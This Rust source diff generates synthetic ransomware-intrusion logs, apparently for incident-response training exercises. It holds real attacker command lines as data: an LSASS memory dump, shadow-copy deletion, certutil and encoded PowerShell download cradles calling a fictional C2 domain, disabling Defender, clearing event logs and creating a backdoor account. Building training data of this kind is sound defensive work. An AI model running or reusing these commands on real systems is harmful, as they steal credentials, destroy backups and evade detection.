@@ -1,0 +1,766 @@
+//! What the intruder leaves in the logs, from the simulation's own events: the phishing mail
+//! and the macro's child process where a host was phished, the exploit's requests and the login
+//! on a gateway, the remote logon from a held host where the crew moved, the commands of each
+//! later stage on the host it works from, the shadow copies deleted and the files renamed where
+//! it encrypted. Each record carries the campaign's indicators as the STIX bundle names them.
+//! Only what happened is written: no event, no record.
+
+use std::collections::BTreeMap;
+
+use crate::report::stix::{Indicator, fictional_indicator};
+use crate::scenario::ids::{CampaignIx, HostIx, OrgIx, TechniqueIx};
+use crate::scenario::{Effect, HostKind, Tactic};
+use crate::sim::events::{SimEvent, Stamped};
+
+use super::background::endpoint;
+use super::ecs::{
+    Addresses, Attachment, AttachmentFile, Dns, Email, Endpoint, Event, File, Group, Hash, Network,
+    Parent, Process, Question, Record, Related, Threat, Url, User,
+};
+use super::estate::{Estate, Stream};
+
+/// A record the intruder's activity left, with its moment: (tick, second, record).
+pub type Trace = (u64, u64, Record);
+
+/// The intruder's records on the hosts `seen` (by host index), in event order; with `truth`,
+/// each says which campaign and technique made it (`threat.*`), for the facilitator.
+pub fn traces(estate: &Estate, events: &[Stamped], seen: &[bool], truth: bool) -> Vec<Trace> {
+    let mut held: BTreeMap<(CampaignIx, OrgIx), Vec<HostIx>> = BTreeMap::new();
+    let mut out = Vec::new();
+    for (n, e) in events.iter().enumerate() {
+        let mut at = Writer {
+            estate,
+            seen,
+            truth,
+            tick: e.tick,
+            serial: n as u64,
+            k: 0,
+            out: &mut out,
+        };
+        match e.event {
+            SimEvent::HostCompromised {
+                campaign,
+                org,
+                host,
+                technique,
+            } => {
+                let from = held.get(&(campaign, org)).and_then(|h| h.last().copied());
+                at.compromised(campaign, host, technique, from);
+                held.entry((campaign, org)).or_default().push(host);
+            }
+            SimEvent::AccessFailed {
+                campaign,
+                host,
+                technique,
+                ..
+            } => at.attempt(campaign, host, technique, false),
+            SimEvent::AccessBlocked {
+                campaign,
+                host,
+                technique,
+                ..
+            } => at.attempt(campaign, host, technique, true),
+            SimEvent::StageCompleted {
+                campaign,
+                org,
+                technique,
+            } => {
+                if let Some(&host) = held.get(&(campaign, org)).and_then(|h| h.first()) {
+                    at.stage(campaign, host, technique);
+                }
+            }
+            SimEvent::HostsEncrypted {
+                campaign,
+                org,
+                hosts,
+                ..
+            } => {
+                let on: Vec<HostIx> = (held.get(&(campaign, org)).into_iter().flatten())
+                    .take(hosts as usize)
+                    .copied()
+                    .collect();
+                for host in on {
+                    at.encrypted(campaign, host);
+                }
+            }
+            _ => {}
+        }
+    }
+    out
+}
+
+/// Where a record goes: the host, the second of the event's minute, and the campaign and
+/// technique that made it.
+#[derive(Clone, Copy)]
+struct On(HostIx, u64, CampaignIx, TechniqueIx);
+
+/// Writes the records of one event.
+struct Writer<'a, 'p> {
+    estate: &'a Estate<'p>,
+    seen: &'a [bool],
+    truth: bool,
+    tick: u64,
+    serial: u64,
+    k: u64,
+    out: &'a mut Vec<Trace>,
+}
+
+impl Writer<'_, '_> {
+    fn draw(&mut self, n: u64) -> u64 {
+        self.k += 1;
+        (self.estate.key).below(n, Stream::Pick, self.serial, self.tick, self.k)
+    }
+
+    fn campaign_id(&self, campaign: CampaignIx) -> &str {
+        &self.estate.plan.scenario.campaigns[campaign.ix()].id
+    }
+
+    fn indicator(&self, campaign: CampaignIx, technique: TechniqueIx) -> Indicator {
+        let t = &self.estate.plan.techniques[technique];
+        fictional_indicator(self.campaign_id(campaign), &t.id, t.effect, t.tactic)
+    }
+
+    /// The campaign's command-and-control name, as its C2 techniques' indicators give it.
+    fn c2(&self, campaign: CampaignIx) -> String {
+        let id = self.campaign_id(campaign);
+        match fictional_indicator(id, "c2", Effect::Foothold, Tactic::CommandAndControl) {
+            Indicator::Domain(d) => d,
+            _ => format!("cdn-{id}.example"),
+        }
+    }
+
+    /// The campaign's tool hash (its foothold payload's).
+    fn tool(&self, campaign: CampaignIx, technique: TechniqueIx) -> String {
+        match self.indicator(campaign, technique) {
+            Indicator::Payload { sha256, .. } => sha256,
+            _ => {
+                let id = self.campaign_id(campaign);
+                match fictional_indicator(id, "tool", Effect::Foothold, Tactic::Execution) {
+                    Indicator::Payload { sha256, .. } => sha256,
+                    _ => String::new(),
+                }
+            }
+        }
+    }
+
+    /// A record on `host` if it is seen, `second` seconds into the event's minute.
+    fn put(&mut self, On(host, second, campaign, technique): On, mut r: Record) {
+        if !self.seen.get(host as usize).copied().unwrap_or(false) {
+            return;
+        }
+        r.host = self.estate.host(host);
+        if !r.related.hosts.contains(&r.host.name) {
+            r.related.hosts.push(r.host.name.clone());
+        }
+        if self.truth {
+            let t = &self.estate.plan.techniques[technique];
+            r.threat = Some(Threat {
+                technique: super::ecs::Technique {
+                    id: vec![t.id.clone()],
+                    name: vec![t.name.clone()],
+                },
+                tactic: super::ecs::Tactic {
+                    name: vec![tactic_name(t.tactic)],
+                },
+                group: Group {
+                    name: self.campaign_id(campaign).to_string(),
+                },
+            });
+        }
+        self.out.push((self.tick, second, r));
+    }
+
+    fn user(&self, host: HostIx) -> User {
+        User {
+            name: self.estate.user(host),
+            domain: self.estate.domain(self.estate.org_of(host)),
+        }
+    }
+
+    /// A process the intruder started on `host`.
+    fn process(&mut self, on: On, (name, command, parent): (&str, String, &str)) {
+        let On(host, second, c, t) = on;
+        let user = self.user(host);
+        let pid = 1000 + self.draw(60_000) as u32;
+        let ppid = 1000 + self.draw(60_000) as u32;
+        let executable = if name.contains('\\') {
+            name.to_string()
+        } else {
+            format!("C:\\Windows\\System32\\{name}")
+        };
+        let short = executable.rsplit('\\').next().unwrap_or(name).to_string();
+        self.put(
+            On(host, second, c, t),
+            Record {
+                message: format!("Process Create: {short}"),
+                event: endpoint(&["process"], &["start"], "process-started"),
+                process: Some(Process {
+                    pid,
+                    name: short,
+                    executable,
+                    command_line: command,
+                    parent: Some(Parent {
+                        pid: ppid,
+                        name: parent.into(),
+                    }),
+                    hash: None,
+                }),
+                related: Related {
+                    user: vec![user.name.clone()],
+                    ..Related::default()
+                },
+                user: Some(user),
+                ..Record::default()
+            },
+        );
+    }
+
+    /// A connection from `host` to `to` (an address) on `port`, `bytes` sent.
+    fn connection(&mut self, on: On, to: String, port: u16, bytes: u64, domain: Option<String>) {
+        let On(host, second, c, t) = on;
+        let ephemeral = 49152 + self.draw(16000) as u16;
+        let ip = self.estate.ip(host);
+        let internal = to.starts_with("10.");
+        self.put(
+            On(host, second, c, t),
+            Record {
+                message: format!("Network connection: {ip} -> {to}:{port}"),
+                event: endpoint(&["network"], &["connection", "start"], "network-connection"),
+                source: Some(Endpoint {
+                    ip: ip.clone(),
+                    port: ephemeral,
+                    ..Endpoint::default()
+                }),
+                destination: Some(Endpoint {
+                    ip: to.clone(),
+                    port,
+                    domain,
+                    bytes: Some(bytes),
+                }),
+                network: Some(Network {
+                    transport: "tcp",
+                    protocol: match port {
+                        443 => "tls",
+                        445 => "smb",
+                        3389 => "rdp",
+                        22 => "ssh",
+                        _ => "http",
+                    },
+                    direction: if internal { "internal" } else { "egress" },
+                }),
+                related: Related {
+                    ip: vec![ip, to],
+                    ..Related::default()
+                },
+                ..Record::default()
+            },
+        );
+    }
+
+    /// A name looked up from `host`, and the address it resolved to.
+    fn lookup(&mut self, on: On, name: &str) -> String {
+        let On(host, second, c, t) = on;
+        let ephemeral = 49152 + self.draw(16000) as u16;
+        let answer = format!("198.51.100.{}", 1 + self.draw(254));
+        let ip = self.estate.ip(host);
+        self.put(
+            On(host, second, c, t),
+            Record {
+                message: format!("DNS query: {name}"),
+                event: Event {
+                    kind: "event",
+                    category: vec!["network"],
+                    kind_of: vec!["protocol", "info"],
+                    action: "dns-query",
+                    outcome: Some("success"),
+                    dataset: "tidewatch.dns",
+                    module: "tidewatch",
+                },
+                dns: Some(Dns {
+                    kind: "query",
+                    question: Question {
+                        name: name.into(),
+                        kind: "A",
+                    },
+                    resolved_ip: vec![answer.clone()],
+                }),
+                source: Some(Endpoint {
+                    ip: ip.clone(),
+                    port: ephemeral,
+                    ..Endpoint::default()
+                }),
+                related: Related {
+                    ip: vec![ip, answer.clone()],
+                    ..Related::default()
+                },
+                ..Record::default()
+            },
+        );
+        answer
+    }
+
+    /// A logon on `host` by `user` from `from`, succeeded or not.
+    fn logon(&mut self, on: On, user: &str, from: String, ok: bool) {
+        let On(host, second, c, t) = on;
+        let ephemeral = 49152 + self.draw(16000) as u16;
+        let gateway = self.estate.kind(host) == HostKind::EdgeDevice;
+        let domain = self.estate.domain(self.estate.org_of(host));
+        self.put(
+            On(host, second, c, t),
+            Record {
+                message: format!(
+                    "Logon {} for {user} from {from}",
+                    if ok { "success" } else { "failure" }
+                ),
+                event: Event {
+                    kind: "event",
+                    category: vec!["authentication"],
+                    kind_of: vec!["start"],
+                    action: "logged-in",
+                    outcome: Some(if ok { "success" } else { "failure" }),
+                    dataset: if gateway {
+                        "tidewatch.vpn"
+                    } else {
+                        "tidewatch.endpoint"
+                    },
+                    module: "tidewatch",
+                },
+                user: Some(User {
+                    name: user.into(),
+                    domain,
+                }),
+                source: Some(Endpoint {
+                    ip: from.clone(),
+                    port: ephemeral,
+                    ..Endpoint::default()
+                }),
+                related: Related {
+                    ip: vec![from],
+                    user: vec![user.into()],
+                    ..Related::default()
+                },
+                ..Record::default()
+            },
+        );
+    }
+
+    /// A file written on `host`.
+    fn file(&mut self, on: On, path: String, sha256: Option<String>) {
+        let On(host, second, c, t) = on;
+        let name = path.rsplit('\\').next().unwrap_or(&path).to_string();
+        let extension = name
+            .rsplit_once('.')
+            .map_or(String::new(), |(_, e)| e.to_string());
+        self.put(
+            On(host, second, c, t),
+            Record {
+                message: format!("File created: {path}"),
+                event: endpoint(&["file"], &["creation"], "file-created"),
+                file: Some(File {
+                    path,
+                    name,
+                    extension,
+                    hash: sha256.map(|sha256| Hash { sha256 }),
+                }),
+                ..Record::default()
+            },
+        );
+    }
+
+    /// The mail that carried a phish to `host`'s user.
+    fn mail(&mut self, on: On, delivered: bool) {
+        let On(host, second, c, t) = on;
+        let sender = match self.indicator(c, t) {
+            Indicator::Sender(s) => s,
+            _ => format!("accounts@{}-invoices.example", self.campaign_id(c)),
+        };
+        let to = format!(
+            "{}@{}.example",
+            self.estate.user(host),
+            self.estate.plan.scenario.organisations[self.estate.org_of(host).ix()].id
+        );
+        let subject = &self.estate.plan.scenario.campaigns[c.ix()].name;
+        self.put(
+            On(host, second, c, t),
+            Record {
+                message: format!(
+                    "Mail {} to {to} from {sender}",
+                    if delivered {
+                        "delivered"
+                    } else {
+                        "quarantined"
+                    }
+                ),
+                event: Event {
+                    kind: "event",
+                    category: vec!["email"],
+                    kind_of: vec![if delivered { "info" } else { "denied" }],
+                    action: if delivered {
+                        "mail-delivered"
+                    } else {
+                        "mail-quarantined"
+                    },
+                    outcome: Some(if delivered { "success" } else { "failure" }),
+                    dataset: "tidewatch.mail",
+                    module: "tidewatch",
+                },
+                email: Some(Email {
+                    from: Addresses {
+                        address: vec![sender.clone()],
+                    },
+                    to: Addresses { address: vec![to] },
+                    subject: subject.clone(),
+                    attachments: vec![Attachment {
+                        file: AttachmentFile {
+                            name: "Budget Circular No. 4 - revised ceilings.docm".into(),
+                            extension: "docm".into(),
+                        },
+                    }],
+                }),
+                ..Record::default()
+            },
+        );
+    }
+
+    /// A host taken: how it was taken, as the technique's records show it.
+    fn compromised(&mut self, c: CampaignIx, host: HostIx, t: TechniqueIx, from: Option<HostIx>) {
+        let technique = &self.estate.plan.techniques[t];
+        let (id, effect) = (technique.id.clone(), technique.effect);
+        let s = self.draw(20);
+        match effect {
+            Effect::Phish => {
+                self.mail(On(host, s, c, t), true);
+                let c2 = self.c2(c);
+                self.process(
+                    On(host, s + 20, c, t),
+                    (
+                        "WindowsPowerShell\\v1.0\\powershell.exe",
+                        format!("powershell.exe -nop -w hidden -enc {}", encoded(&c2)),
+                        "WINWORD.EXE",
+                    ),
+                );
+                let ip = self.lookup(On(host, s + 22, c, t), &c2);
+                self.connection(On(host, s + 23, c, t), ip, 443, 4_000, Some(c2));
+            }
+            Effect::ExploitPublicFacing | Effect::ValidAccounts | Effect::TrustedRelationship => {
+                let from_ip = match self.indicator(c, t) {
+                    Indicator::Address(a) => a,
+                    _ => format!("203.0.113.{}", 1 + self.draw(254)),
+                };
+                if effect == Effect::ExploitPublicFacing {
+                    self.request(On(host, s, c, t), from_ip.clone());
+                }
+                if id.starts_with("T1110") {
+                    for k in 0..12 {
+                        self.logon(On(host, s + k * 3, c, t), "admin", from_ip.clone(), false);
+                    }
+                }
+                let user = match effect {
+                    Effect::TrustedRelationship => "msp-support".to_string(),
+                    _ => format!("adm-{}", self.estate.user(host)),
+                };
+                self.logon(On(host, s + 40, c, t), &user, from_ip, true);
+            }
+            Effect::LateralMovement => {
+                let from_ip = match from {
+                    Some(h) => self.estate.ip(h),
+                    None => format!("10.0.0.{}", 2 + self.draw(200)),
+                };
+                let port = match id.as_str() {
+                    "T1021.001" => 3389,
+                    "T1021.004" => 22,
+                    "T1021.006" => 5985,
+                    _ => 445,
+                };
+                self.logon(
+                    On(host, s, c, t),
+                    &format!("adm-{}", self.estate.user(host)),
+                    from_ip,
+                    true,
+                );
+                let tool = self.tool(c, t);
+                let dropped = format!("C:\\Windows\\Temp\\{}.exe", &tool[..8]);
+                self.file(On(host, s + 5, c, t), dropped.clone(), Some(tool));
+                let parent = if port == 445 {
+                    "services.exe"
+                } else {
+                    "explorer.exe"
+                };
+                self.process(On(host, s + 8, c, t), (&dropped, dropped.clone(), parent));
+                let c2 = self.c2(c);
+                let ip = self.lookup(On(host, s + 10, c, t), &c2);
+                self.connection(On(host, s + 11, c, t), ip, 443, 3_000, Some(c2));
+            }
+            _ => self.stage(c, host, t),
+        }
+    }
+
+    /// An exploit's request to a gateway: the path the appliance's flaw answers on.
+    fn request(&mut self, on: On, from: String) {
+        let On(host, second, c, t) = on;
+        let ephemeral = 49152 + self.draw(16000) as u16;
+        let ip = self.estate.ip(host);
+        self.put(
+            On(host, second, c, t),
+            Record {
+                message: format!("HTTP POST /remote/logincheck from {from}"),
+                event: Event {
+                    kind: "event",
+                    category: vec!["web", "network"],
+                    kind_of: vec!["access", "connection"],
+                    action: "http-request",
+                    outcome: Some("success"),
+                    dataset: "tidewatch.vpn",
+                    module: "tidewatch",
+                },
+                source: Some(Endpoint {
+                    ip: from.clone(),
+                    port: ephemeral,
+                    ..Endpoint::default()
+                }),
+                destination: Some(Endpoint {
+                    ip: ip.clone(),
+                    port: 443,
+                    ..Endpoint::default()
+                }),
+                network: Some(Network {
+                    transport: "tcp",
+                    protocol: "http",
+                    direction: "ingress",
+                }),
+                url: Some(Url {
+                    path: "/remote/logincheck".into(),
+                }),
+                related: Related {
+                    ip: vec![from, ip],
+                    ..Related::default()
+                },
+                ..Record::default()
+            },
+        );
+    }
+
+    /// An attempt that failed (the mail delivered but never opened, the exploit or the
+    /// password refused) or that a filter blocked (the mail quarantined).
+    fn attempt(&mut self, c: CampaignIx, host: HostIx, t: TechniqueIx, blocked: bool) {
+        let effect = self.estate.plan.techniques[t].effect;
+        let s = self.draw(50);
+        match effect {
+            Effect::Phish => self.mail(On(host, s, c, t), !blocked),
+            Effect::ExploitPublicFacing | Effect::ValidAccounts | Effect::TrustedRelationship => {
+                let from = match self.indicator(c, t) {
+                    Indicator::Address(a) => a,
+                    _ => format!("203.0.113.{}", 1 + self.draw(254)),
+                };
+                self.logon(On(host, s, c, t), "admin", from, false);
+            }
+            _ => {}
+        }
+    }
+
+    /// A later stage, worked from `host`: its commands, or what it sent out.
+    fn stage(&mut self, c: CampaignIx, host: HostIx, t: TechniqueIx) {
+        let technique = &self.estate.plan.techniques[t];
+        let (id, effect, name) = (
+            technique.id.clone(),
+            technique.effect,
+            technique.name.clone(),
+        );
+        let s = self.draw(50);
+        if effect == Effect::Exfiltrate {
+            let to = match self.indicator(c, t) {
+                Indicator::Address(a) => a,
+                _ => format!("192.0.2.{}", 1 + self.draw(254)),
+            };
+            let domain = (id == "T1567.002").then(|| "files.cloud-share.example".to_string());
+            for k in 0..4 {
+                let bytes = 200_000_000 + self.draw(400_000_000);
+                self.connection(
+                    On(host, s + k * 2, c, t),
+                    to.clone(),
+                    443,
+                    bytes,
+                    domain.clone(),
+                );
+            }
+            return;
+        }
+        if technique.tactic == Tactic::CommandAndControl {
+            let c2 = self.c2(c);
+            let ip = self.lookup(On(host, s, c, t), &c2);
+            self.connection(On(host, s + 1, c, t), ip, 443, 2_000, Some(c2));
+            return;
+        }
+        let (program, command) = command_of(&id, &name, &self.c2(c));
+        let parent = if program.contains("powershell") {
+            "cmd.exe"
+        } else {
+            "powershell.exe"
+        };
+        self.process(On(host, s, c, t), (program, command, parent));
+        if effect == Effect::Encrypt || id == "T1490" {
+            self.process(
+                On(host, s + 2, c, t),
+                (
+                    "wbadmin.exe",
+                    "wbadmin delete catalog -quiet".into(),
+                    "cmd.exe",
+                ),
+            );
+        }
+    }
+
+    /// A host encrypted: the payload started, the files renamed, the note left.
+    fn encrypted(&mut self, c: CampaignIx, host: HostIx) {
+        let Some(t) = (self.estate.plan.campaigns[c.ix()].stages.iter())
+            .map(|s| s.technique)
+            .find(|t| self.estate.plan.techniques[*t].effect == Effect::Encrypt)
+        else {
+            return;
+        };
+        let (sha256, note) = match self.indicator(c, t) {
+            Indicator::Payload { sha256, note } => {
+                (sha256, note.unwrap_or_else(|| "README.txt".into()))
+            }
+            _ => return,
+        };
+        let s = self.draw(30);
+        let payload = format!("C:\\ProgramData\\{}.exe", &sha256[..10]);
+        self.file(On(host, s, c, t), payload.clone(), Some(sha256));
+        self.process(
+            On(host, s + 1, c, t),
+            (
+                &payload,
+                format!("{payload} -path C:\\ -threads 8"),
+                "svchost.exe",
+            ),
+        );
+        let extension = self.campaign_id(c).to_lowercase();
+        for k in 0..3 {
+            let file = ["Budget 2026.xlsx", "Payroll March.xlsx", "Minutes.docx"][k as usize];
+            self.file(
+                On(host, s + 5 + k, c, t),
+                format!(
+                    "C:\\Users\\{}\\Documents\\{file}.{extension}",
+                    self.estate.user(host)
+                ),
+                None,
+            );
+        }
+        self.file(
+            On(host, s + 9, c, t),
+            format!("C:\\Users\\Public\\Desktop\\{note}"),
+            None,
+        );
+    }
+}
+
+/// The program and command line a stage runs, by technique (the commands responders meet in
+/// incident reports for each); a technique not listed runs a script named for it.
+fn command_of(id: &str, name: &str, c2: &str) -> (&'static str, String) {
+    let line = match id {
+        "T1003" => (
+            "rundll32.exe",
+            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\d.bin full",
+        ),
+        "T1087" => ("net.exe", "net user /domain"),
+        "T1018" => ("nltest.exe", "nltest /dclist:"),
+        "T1082" => ("systeminfo.exe", "systeminfo"),
+        "T1083" => ("cmd.exe", "cmd.exe /c dir /s C:\\Users\\*.xlsx"),
+        "T1046" => (
+            "cmd.exe",
+            "cmd.exe /c C:\\ProgramData\\ns.exe -p 445,3389 10.0.0.0/16",
+        ),
+        "T1482" => ("nltest.exe", "nltest /domain_trusts /all_trusts"),
+        "T1490" => ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
+        "T1486" => ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
+        "T1053.005" => (
+            "schtasks.exe",
+            "schtasks /create /sc minute /mo 30 /tn \"OneDrive Sync\" /tr C:\\ProgramData\\sync.exe",
+        ),
+        "T1547.001" => (
+            "reg.exe",
+            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d C:\\ProgramData\\sync.exe",
+        ),
+        "T1136" => ("net.exe", "net user helpdesk P@ssw0rd! /add /domain"),
+        "T1562.001" => (
+            "WindowsPowerShell\\v1.0\\powershell.exe",
+            "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
+        ),
+        "T1070.001" => ("wevtutil.exe", "wevtutil cl Security"),
+        "T1558.003" => (
+            "WindowsPowerShell\\v1.0\\powershell.exe",
+            "powershell.exe -c \"Add-Type -AssemblyName System.IdentityModel; setspn -T * -Q */*\"",
+        ),
+        "T1555" => ("cmd.exe", "cmd.exe /c C:\\ProgramData\\lz.exe all"),
+        "T1114" => (
+            "WindowsPowerShell\\v1.0\\powershell.exe",
+            "powershell.exe New-MailboxExportRequest -Mailbox finance -FilePath \\\\10.0.0.5\\c$\\pst\\f.pst",
+        ),
+        "T1560.001" => (
+            "7z.exe",
+            "7z.exe a -pinfected C:\\ProgramData\\out.7z C:\\Users\\*\\Documents",
+        ),
+        "T1105" => (
+            "certutil.exe",
+            "certutil.exe -urlcache -split -f https://C2/a.exe C:\\ProgramData\\a.exe",
+        ),
+        "T1047" => (
+            "wmic.exe",
+            "wmic /node:10.0.0.5 process call create \"cmd.exe /c C:\\ProgramData\\a.exe\"",
+        ),
+        "T1068" => ("cmd.exe", "cmd.exe /c C:\\ProgramData\\elevate.exe"),
+        "T1059" => ("cmd.exe", "cmd.exe /c whoami /all"),
+        "T1059.001" => (
+            "WindowsPowerShell\\v1.0\\powershell.exe",
+            "powershell.exe -nop -ep bypass -c IEX (New-Object Net.WebClient).DownloadString('https://C2/p.ps1')",
+        ),
+        _ => {
+            let script = name
+                .to_lowercase()
+                .replace(|c: char| !c.is_ascii_alphanumeric(), "");
+            return (
+                "cmd.exe",
+                format!("cmd.exe /c C:\\ProgramData\\{script}.bat"),
+            );
+        }
+    };
+    (line.0, line.1.replace("C2", c2))
+}
+
+/// A PowerShell `-enc` argument: the command in UTF-16LE base64, as attackers pass it.
+fn encoded(c2: &str) -> String {
+    let command = format!("IEX (New-Object Net.WebClient).DownloadString('https://{c2}/s')");
+    let bytes: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in bytes.chunks(3) {
+        let n = chunk.iter().fold(0u32, |n, b| n << 8 | *b as u32) << (8 * (3 - chunk.len()));
+        for k in 0..4 {
+            if k <= chunk.len() {
+                out.push(ALPHABET[(n >> (18 - 6 * k) & 63) as usize] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+/// ATT&CK's name for a tactic, as ECS's `threat.tactic.name` takes it.
+fn tactic_name(tactic: Tactic) -> &'static str {
+    match tactic {
+        Tactic::InitialAccess => "Initial Access",
+        Tactic::Execution => "Execution",
+        Tactic::Persistence => "Persistence",
+        Tactic::PrivilegeEscalation => "Privilege Escalation",
+        Tactic::DefenseEvasion => "Defense Evasion",
+        Tactic::CredentialAccess => "Credential Access",
+        Tactic::Discovery => "Discovery",
+        Tactic::LateralMovement => "Lateral Movement",
+        Tactic::Collection => "Collection",
+        Tactic::CommandAndControl => "Command and Control",
+        Tactic::Exfiltration => "Exfiltration",
+        Tactic::Impact => "Impact",
+    }
+}
